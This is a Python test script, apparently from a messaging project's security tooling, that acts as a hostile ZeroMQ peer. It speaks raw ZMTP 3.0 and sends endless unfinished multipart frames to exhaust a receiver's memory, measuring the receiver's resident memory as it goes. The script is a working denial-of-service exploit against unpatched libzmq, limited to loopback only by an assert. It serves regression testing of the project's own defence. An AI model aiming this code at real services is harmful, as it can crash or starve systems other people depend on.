#!/usr/bin/env python3
"""A hostile ZMTP peer: unfinished multipart messages (unpatched libzmq buffers them without bound;
ours drops the peer: docs/SECURITY.md, crates/pracownia-core/tests/inbound_budget.rs).

Speaks ZMTP 3.0 with the NULL mechanism over a plain TCP socket (pyzmq cannot do this: it always
finishes a message), announces itself as a PUB, then sends frames of FRAME_MIB MiB, every one with
the MORE flag, and never a last frame. libzmq's ZMQ_MAXMSGSIZE limits one frame and its RCVHWM
counts whole messages, so the receiving SUB keeps every frame of the message it is still waiting
to finish (docs/SECURITY.md, "Unfinished multipart messages").

Measures the receiver's resident memory (VmRSS of --pid, Linux) before, while and after sending,
and prints one JSON line. Only for 127.0.0.1 and a receiver you started yourself:

    pracownia serve --bind 127.0.0.1 --port 5590 --store /tmp/s &
    python3 scripts/hostile/more_frames.py --port 5590 --pid $! --mib 512
"""

import argparse
import json
import socket
import struct
import time


def greeting():
    # signature (10) + version 3.0 (2) + mechanism "NULL" padded to 20 + as-server 0 + filler 31.
    return b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31


def command(name, props):
    body = bytes([len(name)]) + name
    for k, v in props.items():
        body += bytes([len(k)]) + k + struct.pack(">I", len(v)) + v
    return bytes([0x04, len(body)]) + body  # short command frame


def frame_header(size, more=True):
    flags = (0x01 if more else 0) | 0x02  # MORE, LONG (8-byte size)
    return bytes([flags]) + struct.pack(">Q", size)


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def read_exact(s, n):
    out = b""
    while len(out) < n:
        b = s.recv(n - len(out))
        if not b:
            raise ConnectionError("peer closed during the handshake")
        out += b
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, required=True, help="the receiver's process id (for VmRSS)")
    ap.add_argument("--mib", type=int, default=512, help="MiB of unfinished message to send")
    ap.add_argument("--frame-mib", type=int, default=8, help="size of each frame (under MAXMSGSIZE)")
    ap.add_argument("--connections", type=int, default=1, help="one after another, each closed")
    a = ap.parse_args()
    assert a.host in ("127.0.0.1", "::1", "localhost"), "test traffic only on loopback"

    before = rss_kib(a.pid)
    peak = before
    payload = b"\x00" * (a.frame_mib << 20)
    t0 = time.monotonic()
    sent = 0
    for _ in range(a.connections):
        s = socket.create_connection((a.host, a.port))
        s.sendall(greeting())
        read_exact(s, 64)
        s.sendall(command(b"READY", {b"Socket-Type": b"PUB"}))
        flags, size = read_exact(s, 2)
        read_exact(s, size if not flags & 0x02 else struct.unpack(">Q", bytes([size]) + read_exact(s, 7))[0])
        # The topic frame first, as a real message would start, then body frames that never end.
        s.sendall(frame_header(len(b"pracownia/1/chat")) + b"pracownia/1/chat")
        for _ in range(a.mib // a.frame_mib):
            s.sendall(frame_header(len(payload)) + payload)
            sent += len(payload)
            peak = max(peak, rss_kib(a.pid))
        time.sleep(0.5)
        peak = max(peak, rss_kib(a.pid))
        s.close()
    elapsed = time.monotonic() - t0
    time.sleep(2.0)
    after = rss_kib(a.pid)
    print(json.dumps({"sent_mib": sent >> 20, "connections": a.connections, "seconds": round(elapsed, 2),
                      "rss_before_mib": before >> 10, "rss_peak_mib": peak >> 10,
                      "rss_after_close_mib": after >> 10}))


if __name__ == "__main__":
    main()
